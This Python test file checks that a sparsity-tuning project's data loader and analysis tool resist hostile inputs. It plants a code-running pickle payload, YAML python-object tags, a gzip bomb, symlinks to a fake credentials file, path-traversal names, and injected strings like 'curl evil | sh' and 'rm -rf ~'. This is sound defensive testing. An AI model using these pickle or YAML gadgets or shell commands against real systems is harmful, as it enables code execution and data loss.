"""Nothing executes from data, and the analysis neither reads nor writes through a symlink.

Planted payloads would create a marker file if they ran; each test asserts the marker does not
exist. Symlink targets stand in for a user's ``~/.bashrc`` and ``~/.netrc``: they must be left
byte-for-byte untouched and their content must never appear in any output.
"""

from __future__ import annotations

import hashlib
import os
import pickle
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from analysis.__main__ import main as analysis_main
from analysis.load import load_experiment
from analysis.synthetic import simple_trial, trial_files, write_trial
from sparsity_tune import layout
from sparsity_tune.keys import ConfigError
from sparsity_tune.safe_yaml import YamlInputError, loads
from sparsity_tune.trial import data as data_module
from sparsity_tune.trial.config import DatasetConfig
from sparsity_tune.trial.data import CIFAR10_FOLDER, DatasetError, load_dataset

pytestmark = pytest.mark.timeout(120)


class Payload:
    """Unpickling this runs ``os.system('touch MARKER')``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def plant_cifar(root: Path, marker: Path) -> Path:
    folder = root / CIFAR10_FOLDER
    folder.mkdir(parents=True)
    for name in data_module.CIFAR10_MD5:
        entry = {"data": np.zeros((2, 3072), np.uint8), "labels": [0, 1], "x": Payload(marker)}
        (folder / name).write_bytes(pickle.dumps(entry, protocol=2))
    return folder


def test_a_planted_pickle_in_a_cifar_batch_does_not_run(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    plant_cifar(tmp_path / "data", marker)
    with pytest.raises(DatasetError, match=r"md5 .* is not the published CIFAR-10"):
        load_dataset(DatasetConfig(name="cifar10", root=str(tmp_path / "data")))
    assert not marker.exists()


def test_even_with_a_matching_md5_the_unpickler_builds_only_arrays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Defence in depth: suppose the md5 list were wrong; the payload still cannot run."""
    marker = tmp_path / "PWNED"
    folder = plant_cifar(tmp_path / "data", marker)
    md5 = {n: hashlib.md5((folder / n).read_bytes()).hexdigest() for n in data_module.CIFAR10_MD5}
    monkeypatch.setattr(data_module, "CIFAR10_MD5", md5)
    with pytest.raises(DatasetError, match=r"refused global (posix|os)\.system"):
        load_dataset(DatasetConfig(name="cifar10", root=str(tmp_path / "data")))
    assert not marker.exists()


def test_a_planted_legacy_mnist_file_does_not_run(tmp_path: Path) -> None:
    """torchvision reads MNIST's old processed/*.pt with weights_only=True: refused, clean error."""
    import torch

    marker = tmp_path / "PWNED"
    processed = tmp_path / "data" / "MNIST" / "processed"
    processed.mkdir(parents=True)
    for name in ("training.pt", "test.pt"):
        torch.save({"x": Payload(marker)}, processed / name)
    with pytest.raises(ConfigError, match="MNIST"):
        load_dataset(DatasetConfig(name="mnist", root=str(tmp_path / "data")))
    assert not marker.exists()


def test_a_gzip_bomb_is_not_decompressed_past_the_cap(tmp_path: Path) -> None:
    import gzip

    raw = tmp_path / "MNIST" / "raw"
    raw.mkdir(parents=True)
    (raw / "train-images-idx3-ubyte.gz").write_bytes(gzip.compress(b"\0" * (1 << 20)))
    with pytest.raises(DatasetError, match="decompresses to more than"):
        data_module._gunzip(
            raw / "train-images-idx3-ubyte.gz", raw / "train-images-idx3-ubyte", limit=1 << 16
        )
    assert not (raw / "train-images-idx3-ubyte").exists()
    assert [p.name for p in raw.iterdir()] == ["train-images-idx3-ubyte.gz"]  # no temp left


def test_yaml_tags_never_build_python_objects(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    for text in (
        f"a: !!python/object/apply:os.system ['touch {marker}']",
        f"a: !!python/object/new:os.system ['touch {marker}']",
        "a: !!python/name:os.system",
    ):
        with pytest.raises(YamlInputError, match="python"):
            loads(text, "spec.yaml")
    assert not marker.exists()


# --------------------------------------------------------------------------- analysis symlinks

BASHRC = "# a stand-in for ~/.bashrc\nalias ll='ls -l'\n"
NETRC = "machine api.wandb.ai login user password SECRET-TOKEN-42\n"


@pytest.fixture
def hostile(tmp_path: Path) -> dict[str, Path]:
    """An experiment someone else prepared: symlinks to a home directory's files."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(BASHRC)
    (home / ".netrc").write_text(NETRC)
    (home / "elsewhere").mkdir()
    exp = tmp_path / "exp"
    for seed in range(2):
        simple_trial(exp, seed=seed)
    simple_trial(exp, seed=0, sparsity=0.5)
    # a failed trial whose error.txt is the netrc
    cfg, records, _ = trial_files("mlp", 1, 64, 0.9, 0, epochs=2)
    cfg["trial_id"] = "failed_one"
    bad = write_trial(exp / "failed_one", cfg, records[:1])
    (bad / layout.ERROR).symlink_to(home / ".netrc")
    # a trial whose records are the netrc
    cfg2 = dict(cfg, trial_id="linked_records")
    linked = write_trial(exp / "linked_records", cfg2, [])
    (linked / layout.RECORDS).unlink()
    (linked / layout.RECORDS).symlink_to(home / ".netrc")
    # a whole trial directory that is a link to the home directory
    (exp / "trial_link").symlink_to(home)
    (exp / layout.SPEC).symlink_to(home / ".netrc")
    return {"home": home, "exp": exp}


def snapshot(home: Path) -> dict[str, tuple[bytes, int]]:
    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in home.iterdir() if p.is_file()}


def outputs_text(out: Path) -> str:
    return "".join(p.read_bytes().decode("utf-8", "replace") for p in out.rglob("*") if p.is_file())


def test_analysis_never_reads_through_symlinks(hostile, tmp_path, capsys) -> None:
    home, exp = hostile["home"], hostile["exp"]
    before = snapshot(home)
    out = tmp_path / "out"
    assert analysis_main([str(exp), "--out", str(out), "--no-plots", "--quiet"]) == 0
    err = capsys.readouterr().err
    assert snapshot(home) == before
    text = outputs_text(out)
    assert text.count("SECRET-TOKEN-42") == 0 and err.count("SECRET-TOKEN-42") == 0
    trials = pd.read_csv(out / "trials.csv").set_index("trial_id")
    assert trials.loc["failed_one", "status"] == "damaged"
    assert "error.txt: a symbolic link; not followed" in trials.loc["failed_one", "error"]
    assert trials.loc["linked_records", "status"] == "damaged"
    assert "trial_link" not in " ".join(trials["trial_dir"])  # linked directories are not walked
    assert "spec.yaml: a symbolic link" in err
    assert (trials["status"] == "finished").sum() == 3


def test_analysis_dir_that_is_a_symlink_is_refused(hostile, capsys) -> None:
    home, exp = hostile["home"], hostile["exp"]
    (exp / "analysis").symlink_to(home / "elsewhere")
    before = snapshot(home)
    assert analysis_main([str(exp), "--no-plots", "--quiet"]) == 2
    assert "a symbolic link" in capsys.readouterr().err
    assert list((home / "elsewhere").iterdir()) == [] and snapshot(home) == before


def test_planted_output_symlinks_are_replaced_never_followed(hostile, capsys) -> None:
    """``analysis/`` is the user's own directory (e.g. copied with rsync -a), but holds links."""
    home, exp = hostile["home"], hostile["exp"]
    out = exp / "analysis"
    (out / "plots").mkdir(parents=True)
    (out / "report.html").symlink_to(home / ".bashrc")
    (out / "trials.csv").symlink_to(home / ".bashrc")
    (out / "plots" / "acc_vs_sparsity.png").symlink_to(home / ".bashrc")
    before = snapshot(home)
    assert analysis_main([str(exp), "--quiet"]) == 0
    assert snapshot(home) == before
    for f in (out / "report.html", out / "trials.csv", out / "plots" / "acc_vs_sparsity.png"):
        assert f.is_file() and not f.is_symlink()
    assert (out / "plots" / "acc_vs_sparsity.png").read_bytes()[:4] == b"\x89PNG"
    assert not [p for p in out.rglob("*") if p.name.startswith(".")]  # no temp files left


def test_plots_dir_that_is_a_symlink_is_refused(hostile, capsys) -> None:
    home, exp = hostile["home"], hostile["exp"]
    (exp / "analysis").mkdir()
    (exp / "analysis" / "plots").symlink_to(home / "elsewhere")
    assert analysis_main([str(exp), "--quiet"]) == 2
    assert "plots: a symbolic link" in capsys.readouterr().err
    assert list((home / "elsewhere").iterdir()) == []


def test_output_dir_of_another_user_is_refused(tmp_path, monkeypatch) -> None:
    from analysis import safe_io

    d = tmp_path / "theirs"
    d.mkdir()
    monkeypatch.setattr(os, "getuid", lambda: os.stat(d).st_uid + 1)
    with pytest.raises(safe_io.Refused, match="owned by another user"):
        safe_io.output_dir(d)


def test_names_with_newlines_never_become_report_lines(tmp_path) -> None:
    """A trial id or config value holding a newline is escaped in HTML: no bare line appears."""
    exp = tmp_path / "exp"
    for seed in range(2):
        simple_trial(exp, seed=seed)
    cfg, records, _ = trial_files("mlp", 1, 64, 0.5, 0, epochs=2)
    cfg["trial_id"] = "t\nrm -rf ~\n<script>alert(1)</script>"
    # unfinished, so it is listed (id and error) in the report's table of unfinished trials
    write_trial(exp / "odd", cfg, records[:1], error="Traceback\ncurl evil | sh\n")
    out = tmp_path / "out"
    assert analysis_main([str(exp), "--out", str(out), "--no-plots", "--quiet"]) == 0
    lines = (out / "report.html").read_text().splitlines()
    assert sum(ln.strip() in ("rm -rf ~", "curl evil | sh") for ln in lines) == 0
    assert sum("<script>alert(1)" in ln for ln in lines) == 0
    assert sum("rm -rf ~" in ln for ln in lines) >= 1  # it is there, escaped, inside a line


def test_wandb_settings_of_spec_yaml_are_ignored(tmp_path) -> None:
    """spec.yaml asks for online upload to another entity; the run goes where the flags say."""
    from analysis.questions import analyse
    from analysis.wandb_log import WandbTarget, wandb_target

    exp = tmp_path / "exp"
    for seed in range(2):
        simple_trial(exp, seed=seed)
    (exp / layout.SPEC).write_text(
        "name: exp\nwandb: {mode: online, entity: attacker, project: loot}\n"
    )
    a = analyse(load_experiment(exp), xs=("nonzero_params",))
    assert wandb_target(a) == {
        "project": "sparsity-tune",
        "entity": None,
        "group": "exp",
        "mode": "offline",
        "tags": None,
    }
    chosen = wandb_target(a, WandbTarget(mode="online", project="mine", entity="me"))
    assert (chosen["mode"], chosen["entity"], chosen["project"]) == ("online", "me", "mine")


# --------------------------------------------------------------------------- train CLI paths


@pytest.mark.parametrize("name", ["../../victim", "/ABS/victim"])
def test_train_spec_name_cannot_point_outside_runs(tmp_path, data_root, monkeypatch, capsys, name):
    from sparsity_tune.train import main as train_main

    victim = tmp_path / "victim"
    victim.mkdir()
    for f in (layout.RECORDS, layout.SUMMARY, layout.ERROR):
        (victim / f).write_text("precious\n")
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    name = name.replace("/ABS", str(tmp_path))
    spec = tmp_path / "spec.yaml"
    spec.write_text(
        f"name: {name}\ndataset: {{root: {data_root}, train_limit: 100}}\ntrain: {{epochs: 1}}\n"
    )
    assert train_main([str(spec)]) == 2
    assert "letters, digits" in capsys.readouterr().err
    assert sorted(p.name for p in victim.iterdir()) == sorted(
        [layout.RECORDS, layout.SUMMARY, layout.ERROR]
    )
    assert all((victim / f).read_text() == "precious\n" for f in (layout.RECORDS, layout.SUMMARY))
    assert list(work.iterdir()) == []
